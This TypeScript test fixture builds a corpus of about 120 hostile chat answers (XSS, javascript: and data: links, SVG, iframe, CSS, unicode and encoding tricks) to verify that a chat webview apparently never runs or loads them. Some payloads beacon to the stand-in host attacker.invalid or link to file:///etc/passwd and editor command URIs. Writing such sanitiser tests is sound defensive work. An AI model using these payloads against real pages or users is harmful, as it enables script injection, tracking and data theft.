/**
 * Model answers that try to run script, load something or hide the chat when
 * the chat webview renders them. Each one calls a trap function (TRAP_NAME)
 * or reaches ATTACKER_HOST if it ever executes or loads, and is framed by
 * harmless words that must stay visible.
 */

/** The global function every executable payload calls; a test installs it in the webview and checks it never fires. */
export const TRAP_NAME = '__hostileTrap';
/** The host every loading payload points at; no request may reach it. */
export const ATTACKER_HOST = 'attacker.invalid';

export type HostileCategory =
  | 'script tag'
  | 'event handler'
  | 'javascript: link'
  | 'data: link'
  | 'svg'
  | 'iframe and embedding'
  | 'css injection'
  | 'unicode trick'
  | 'markdown link'
  | 'markdown image'
  | 'code fence'
  | 'encoding trick';

export interface HostileAnswer {
  /** Unique, e.g. `h042`: names the payload in failures and in the trap's record. */
  id: string;
  category: HostileCategory;
  /** The whole answer the model streams. */
  answer: string;
  /** Words the rendered answer must show. */
  visible: string[];
}

/** What a payload template gets: its trap call and beacon URL. */
interface Bait {
  /** `__hostileTrap('h042')` */
  call: string;
  /** `https://attacker.invalid/h042` */
  url: string;
  id: string;
}

type Template = (bait: Bait) => string;

const TEMPLATES: ReadonlyArray<readonly [HostileCategory, Template]> = [
  ['script tag', (b) => `<script>${b.call}</script>`],
  ['script tag', (b) => `<SCRIPT SRC=${b.url}.js></SCRIPT>`],
  ['script tag', (b) => `<script/src="data:text/javascript,${b.call}"></script>`],
  ['script tag', (b) => `<<script>${b.call};//<</script>`],
  ['script tag', (b) => `<scr<script>ipt>${b.call}</scr</script>ipt>`],
  ['script tag', (b) => `</script><script>${b.call}</script>`],
  ['script tag', (b) => `<script type="module">${b.call}</script>`],
  ['script tag', (b) => `<noscript><p title="</noscript><img src=x onerror=${b.call}>">`],
  ['script tag', (b) => `<template><script>${b.call}</script></template>`],
  ['script tag', (b) => `Inline <script>${b.call}</script> in a sentence.`],
  ['script tag', (b) => `- item\n- <script>${b.call}</script>\n- item`],
  ['event handler', (b) => `<img src=x onerror="${b.call}">`],
  ['event handler', (b) => `<img src=x onerror=${b.call}//`],
  ['event handler', (b) => `<body onload=${b.call}>`],
  ['event handler', (b) => `<details open ontoggle=${b.call}>`],
  ['event handler', (b) => `<input autofocus onfocus=${b.call}>`],
  ['event handler', (b) => `<marquee onstart=${b.call}>scroll</marquee>`],
  ['event handler', (b) => `<video><source onerror="${b.call}"></video>`],
  ['event handler', (b) => `<audio src=x onerror=${b.call}>`],
  ['event handler', (b) => `<div onmouseover="${b.call}" style="position:fixed;inset:0">hover</div>`],
  ['event handler', (b) => `<a onclick="${b.call}">click me</a>`],
  ['event handler', (b) => `<select autofocus onfocus=${b.call}></select>`],
  ['event handler', (b) => `<textarea autofocus onfocus=${b.call}></textarea>`],
  ['event handler', (b) => `<form><button formaction="javascript:${b.call}">go</button></form>`],
  ['event handler', (b) => `<math><mtext><table><mglyph><style><img src=x onerror=${b.call}>`],
  ['event handler', (b) => `<img src="x" alt="\`\` onerror=${b.call}">`],
  ['event handler', (b) => `| a | b |\n|---|---|\n| <img src=x onerror=${b.call}> | cell |`],
  ['event handler', (b) => `> quoted <img src=x onerror=${b.call}>`],
  ['javascript: link', (b) => `[click](javascript:${b.call})`],
  ['javascript: link', (b) => `[click](JaVaScRiPt:${b.call})`],
  ['javascript: link', (b) => `[click](<javascript:${b.call}>)`],
  ['javascript: link', (b) => `[click](&#106;avascript:${b.call})`],
  ['javascript: link', (b) => `[click](javascript&#58;${b.call})`],
  ['javascript: link', (b) => `[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${b.call})`],
  ['javascript: link', (b) => `<javascript:${b.call}>`],
  ['javascript: link', (b) => `[click][evil]\n\n[evil]: javascript:${b.call}`],
  ['javascript: link', (b) => `[click](javascript://%0a${b.call})`],
  ['javascript: link', (b) => `[click](vbscript:msgbox("${b.id}"))`],
  ['javascript: link', (b) => `<a href="javascript:${b.call}">raw anchor</a>`],
  ['javascript: link', (b) => `[click](\u0001javascript:${b.call})`],
  ['javascript: link', (b) => `[click](java&#09;script:${b.call})`],
  ['javascript: link', (b) => `[\`code\` click](javascript:${b.call})`],
  ['data: link', (b) => `[open](data:text/html;base64,${Buffer.from(`<script>${b.call}</script>`).toString('base64')})`],
  ['data: link', (b) => `[open](data:text/html,<script>${b.call}</script>)`],
  ['data: link', (b) => `[open](DATA:text/html,%3Cscript%3E${b.call}%3C/script%3E)`],
  ['data: link', (b) => `<a href="data:text/html,<script>${b.call}</script>">raw data anchor</a>`],
  ['data: link', (b) => `<data:text/html,<script>${b.call}</script>>`],
  ['data: link', (b) => `[open][d]\n\n[d]: data:text/html;base64,${Buffer.from(`<svg onload="${b.call}">`).toString('base64')}`],
  ['svg', (b) => `<svg onload=${b.call}>`],
  ['svg', (b) => `<svg><script>${b.call}</script></svg>`],
  ['svg', (b) => `<svg><a xlink:href="javascript:${b.call}"><text x="20" y="20">svg link</text></a></svg>`],
  ['svg', (b) => `<svg><animate onbegin=${b.call} attributeName=x dur=1s>`],
  ['svg', (b) => `<svg><foreignObject><img src=x onerror=${b.call}></foreignObject></svg>`],
  ['svg', (b) => `<svg><set attributeName=onmouseover to=${b.call}>`],
  ['svg', (b) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${b.call}'/></svg>#x"/></svg>`],
  ['svg', (b) => `<svg><image href="${b.url}.png"/></svg>`],
  ['iframe and embedding', (b) => `<iframe src="javascript:${b.call}"></iframe>`],
  ['iframe and embedding', (b) => `<iframe srcdoc="<script>parent.${b.call}</script>"></iframe>`],
  ['iframe and embedding', (b) => `<iframe src="${b.url}"></iframe>`],
  ['iframe and embedding', (b) => `<object data="javascript:${b.call}"></object>`],
  ['iframe and embedding', (b) => `<embed src="${b.url}.swf">`],
  ['iframe and embedding', (b) => `<frameset onload=${b.call}>`],
  ['iframe and embedding', (b) => `<base href="${b.url}/">`],
  ['iframe and embedding', (b) => `<meta http-equiv="refresh" content="0;url=javascript:${b.call}">`],
  ['iframe and embedding', (b) => `<link rel="prefetch" href="${b.url}">`],
  ['iframe and embedding', (b) => `<form action="${b.url}"><input type="submit" value="send"></form>`],
  ['css injection', () => '<style>body{display:none!important}</style>'],
  ['css injection', (b) => `<style>@import url(${b.url}.css);</style>`],
  ['css injection', (b) => `<div style="background:url(${b.url}.png)">background</div>`],
  ['css injection', () => '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#000;z-index:9999">cover</div>'],
  ['css injection', () => '<span style="font-size:0;color:transparent">hidden</span>'],
  ['css injection', (b) => `<link rel="stylesheet" href="${b.url}.css">`],
  ['css injection', (b) => `<div style="width:expression(${b.call})">expression</div>`],
  ['css injection', (b) => `<p style="behavior:url(${b.url}.htc)">behavior</p>`],
  ['css injection', (b) => `| left | right |\n|:--|--:|\n| <span style="background-image:url(${b.url})">x</span> | y |`],
  ['unicode trick', (b) => `File: \u202Egnp.exe\u202C and [click](java\u200Bscript:${b.call})`],
  ['unicode trick', (b) => `[example.com](https://\u0435xample.com/${b.id})`],
  ['unicode trick', (b) => `\uFF1Cscript\uFF1E${b.call}\uFF1C/script\uFF1E`],
  ['unicode trick', (b) => `<scr\u0000ipt>${b.call}</scr\u0000ipt>`],
  ['unicode trick', (b) => `[click](javascript\u2028:${b.call})`],
  ['unicode trick', (b) => `[click](\u00A0javascript:${b.call})`],
  ['unicode trick', (b) => `\uFEFF<img src=x onerror=${b.call}>`],
  ['unicode trick', () => 'Z\u0336\u0334\u0335a\u0337\u0338l\u0321\u0322g\u0327\u0328o\u0334 text over text'],
  ['unicode trick', (b) => `\u2066<svg onload=${b.call}>\u2069 isolate`],
  ['unicode trick', (b) => `[\u202Egnp.lmth](https://attacker.invalid/${b.id})`],
  ['unicode trick', (b) => `<img src=x one\u200Brror=${b.call}>`],
  ['markdown image', (b) => `![pixel](${b.url}.png)`],
  ['markdown image', (b) => `![pixel](${b.url}.png "title")`],
  ['markdown image', (b) => `![pixel][img]\n\n[img]: ${b.url}.gif`],
  ['markdown image', (b) => `[![pixel](${b.url}.png)](javascript:${b.call})`],
  ['markdown image', (b) => `![x" onerror="${b.call}](${b.url}.png)`],
  [
    'markdown image',
    (b) => `![svg](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${b.call}"/>`).toString('base64')})`,
  ],
  ['markdown image', (b) => `![](//${ATTACKER_HOST}/${b.id}.png)`],
  ['markdown link', (b) => `[click](https://ok.example "title\\" onmouseover=\\"${b.call}")`],
  ['markdown link', (b) => `[click](https://ok.example/"onmouseover="${b.call})`],
  ['markdown link', (b) => `[click](#" onclick="${b.call})`],
  ['markdown link', (b) => `<${b.url}>`],
  ['markdown link', () => '[open a terminal](command:workbench.action.terminal.new)'],
  ['markdown link', () => '[new file](command:workbench.action.files.newUntitledFile)'],
  ['markdown link', () => '[sign out](command:genaiGateway.signOut)'],
  ['markdown link', () => '[passwords](file:///etc/passwd)'],
  ['markdown link', () => '[settings](vscode://settings/genaiGateway.baseUrl)'],
  ['markdown link', (b) => `<!-- <img src=x onerror=${b.call}> -->`],
  ['markdown link', (b) => `[[[[[[nested](javascript:${b.call})]]]]]`],
  ['markdown link', (b) => `[click]( javascript:${b.call} )`],
  ['markdown link', (b) => `[a](https://ok.example)[b](javascript:${b.call})[c](https://ok.example)`],
  ['markdown link', (b) => `www.${ATTACKER_HOST}/${b.id} and ${b.url}?q=<script>${b.call}</script>`],
  ['code fence', (b) => `\`\`\`html\n<script>${b.call}</script>\n\`\`\``],
  ['code fence', (b) => `\`\`\`"><img src=x onerror=${b.call}>\ncode\n\`\`\``],
  ['code fence', (b) => `\`\`\`js onload=${b.call}\nconsole.log(1)\n\`\`\``],
  ['code fence', (b) => `\`\`\`\n</code></pre><img src=x onerror=${b.call}>\n\`\`\``],
  ['code fence', (b) => `Inline \`</code><script>${b.call}</script>\` code.`],
  ['code fence', (b) => `\`\`\`svg\n<svg onload=${b.call}>\n`],
  ['code fence', (b) => `    <script>${b.call}</script>\n    indented code`],
  ['encoding trick', (b) => `&lt;script&gt;${b.call}&lt;/script&gt;`],
  ['encoding trick', (b) => `&#x3C;img src=x onerror=${b.call}&#x3E;`],
  ['encoding trick', (b) => `<img src=x onerror=&#x5F;&#x5F;${TRAP_NAME.slice(2)}&#x28;'${b.id}'&#x29;>`],
  ['encoding trick', (b) => `%3Cscript%3E${b.call}%3C%2Fscript%3E`],
  ['encoding trick', (b) => `\\<script\\>${b.call}\\</script\\>`],
  ['encoding trick', (b) => `<img src=x onerror=eval(atob('${Buffer.from(b.call).toString('base64')}'))>`],
  [
    'encoding trick',
    (b) => `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${b.call}">entities</a>`,
  ],
];

function bait(id: string): Bait {
  return { id, call: `${TRAP_NAME}('${id}')`, url: `https://${ATTACKER_HOST}/${id}` };
}

/** The corpus: each payload framed by `start-<id>` and `end-<id>`, which must stay visible. */
export const HOSTILE_ANSWERS: readonly HostileAnswer[] = TEMPLATES.map(([category, template], index) => {
  const id = `h${String(index + 1).padStart(3, '0')}`;
  return {
    id,
    category,
    answer: `Harmless start-${id} words.\n\n${template(bait(id))}\n\nHarmless end-${id} words.`,
    visible: [`start-${id}`, `end-${id}`],
  };
});
